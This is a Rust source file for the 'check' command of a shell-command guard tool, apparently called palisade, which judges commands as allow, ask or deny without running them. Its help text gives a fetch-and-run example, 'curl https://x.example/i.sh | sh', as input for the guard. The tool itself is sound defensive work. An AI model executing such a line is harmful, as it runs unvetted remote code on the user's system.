use std::io::{self, Write};
use std::process::ExitCode;

use clap::{Args, ValueEnum};
use palisade_core::{Command, Severity, Surface, Verdict};
use palisade_guards::command;
use palisade_guards::content::reveal;
use palisade_runtime::{Circumstances, Judged, Request, judge_command, words};
use serde::{Deserialize, Serialize};

use super::batch::each_line;
use crate::show::{self, Failure, Paint, Style, printed};
use crate::wire_up::{self, House};

/// Say whether a command would be allowed, without running it
///
/// Exit code: 0 allow, 3 ask, 4 deny, 2 usage or configuration error,
/// 1 failure.
#[derive(Debug, Args)]
#[command(
    after_help = "Examples:\n  palisade check -- 'curl https://x.example/i.sh | sh'\n  palisade check -c 'rm -rf build'"
)]
pub struct Arguments {
    #[command(flatten)]
    what: Line,
    /// Print one JSON object.
    #[arg(long)]
    json: bool,
    /// Judge `{"cmd": "..", "cwd": ".."}` lines of standard input, one object
    /// out for each, in the same order.
    #[arg(long, conflicts_with_all = ["command", "line", "json"])]
    batch: bool,
    #[command(flatten)]
    judged: AsIf,
}

/// What to judge.
#[derive(Debug, Args)]
pub struct Line {
    /// A line for the shell, as with `run`.
    #[arg(short = 'c', value_name = "LINE", conflicts_with = "command")]
    line: Option<String>,
    /// One argument is a shell line; several are a program and its arguments.
    #[arg(value_name = "CMD", trailing_var_arg = true)]
    command: Vec<String>,
}

impl Line {
    /// # Errors
    /// Where there is none.
    pub fn command(self, verb: &str) -> Result<Command, Failure> {
        let mut words = self.command;
        match (self.line.or_else(|| words.pop()), words.is_empty()) {
            (Some(line), true) => Ok(Command::Shell(line)),
            (Some(last), false) => Ok(Command::Argv(words.into_iter().chain([last]).collect())),
            (None, _) => Err(Failure::Usage(format!(
                "there is nothing to judge: `palisade {verb} -c 'LINE'`, or `palisade {verb} -- PROGRAM ARG..`"
            ))),
        }
    }
}

/// Under which circumstances to judge.
#[derive(Debug, Args)]
pub struct AsIf {
    /// Whether somebody could be asked.
    #[arg(long, value_enum, default_value = "interactive")]
    surface: SurfaceName,
    /// Judge as inside the sandbox.
    #[arg(long)]
    confined: bool,
    /// The session whose earlier commands count.
    #[arg(long, env = "PALISADE_SESSION", value_name = "ID")]
    pub session: Option<String>,
}

#[derive(Debug, Clone, Copy, ValueEnum)]
enum SurfaceName {
    Interactive,
    Unattended,
}

impl AsIf {
    /// The surface.
    pub fn surface(&self) -> Surface {
        match self.surface {
            SurfaceName::Interactive => Surface::Interactive,
            SurfaceName::Unattended => Surface::Unattended,
        }
    }

    /// The circumstances with the posture changed as asked.
    pub fn apply(&self, at: &mut Circumstances<'_>) {
        at.posture.confined |= self.confined;
    }
}

/// What `--json` prints.
#[derive(Debug, Serialize)]
struct Report<'a> {
    verdict: &'static str,
    severity: &'static str,
    findings: Vec<Found<'a>>,
    effects: Vec<String>,
}

#[derive(Debug, Serialize)]
struct Found<'a> {
    rule: &'a str,
    severity: &'static str,
    why: &'a str,
    span: [u32; 2],
    text: &'a str,
}

#[derive(Debug, Deserialize)]
struct Asked {
    cmd: String,
    cwd: Option<String>,
}

#[derive(Debug, Serialize)]
struct Answered {
    verdict: &'static str,
    severity: &'static str,
    rules: Vec<&'static str>,
}

pub fn run(arguments: Arguments, profile: Option<&str>) -> Result<ExitCode, Failure> {
    let house = House::open(profile, arguments.judged.session.as_deref())?;
    let keeper = house.keeper();
    let session = keeper.session()?;
    let grants = house.grants(&session);
    let mut at = house.circumstances(arguments.judged.surface(), &grants, &session);
    arguments.judged.apply(&mut at);
    if arguments.batch {
        return batch(&at);
    }
    let judged = judge_command(
        Request { command: arguments.what.command("check")?, cwd: wire_up::cwd()? },
        &at,
    );
    if house.has_session() && judged.decision.verdict() != Verdict::Deny {
        keeper.remember(&judged.analysis.files, &command::shown(&judged.analysis))?;
    }
    printed(|out| if arguments.json { json(out, &judged) } else { words(out, &judged) })?;
    Ok(show::code(judged.decision.verdict()))
}

fn json(out: &mut dyn Write, judged: &Judged) -> io::Result<()> {
    let decision = &judged.decision;
    let found = decision.findings().iter().map(|finding| Found {
        rule: finding.rule,
        severity: finding.severity.word(),
        why: &finding.why,
        span: [finding.span.from, finding.span.to],
        text: &finding.text,
    });
    let report = Report {
        verdict: decision.verdict().word(),
        severity: decision.severity().word(),
        findings: found.collect(),
        effects: judged.analysis.effects.iter().map(|effect| words::effect(&effect.kind)).collect(),
    };
    serde_json::to_writer(&mut *out, &report)?;
    out.write_all(b"\n")
}

fn words(out: &mut dyn Write, judged: &Judged) -> io::Result<()> {
    let paint = Paint::on(&io::stdout());
    let decision = &judged.decision;
    let verdict = paint.text(show::style(decision.verdict()), decision.verdict().word());
    writeln!(out, "{verdict} ({})", decision.severity().word())?;
    for finding in decision.findings() {
        if finding.severity > Severity::Safe {
            let rule = paint.text(Style::Bold, finding.rule);
            writeln!(out, "  {rule}: {}", reveal(&finding.why))?;
            if !finding.instead.is_empty() {
                writeln!(out, "    {}", paint.text(Style::Dim, finding.instead))?;
            }
        }
    }
    Ok(())
}

fn batch(at: &Circumstances<'_>) -> Result<ExitCode, Failure> {
    let here = wire_up::cwd()?;
    each_line("{\"cmd\": \"ls -l\"}", |asked| judged(asked, &here, at))
}

fn judged(asked: Asked, here: &str, at: &Circumstances<'_>) -> Result<Answered, String> {
    let cwd = asked.cwd.unwrap_or_else(|| here.to_owned());
    if !cwd.starts_with('/') {
        return Err(format!("`cwd` is not absolute: `{cwd}`"));
    }
    let decision = judge_command(Request { command: Command::Shell(asked.cmd), cwd }, at).decision;
    Ok(Answered {
        verdict: decision.verdict().word(),
        severity: decision.severity().word(),
        rules: decision.rules(),
    })
}
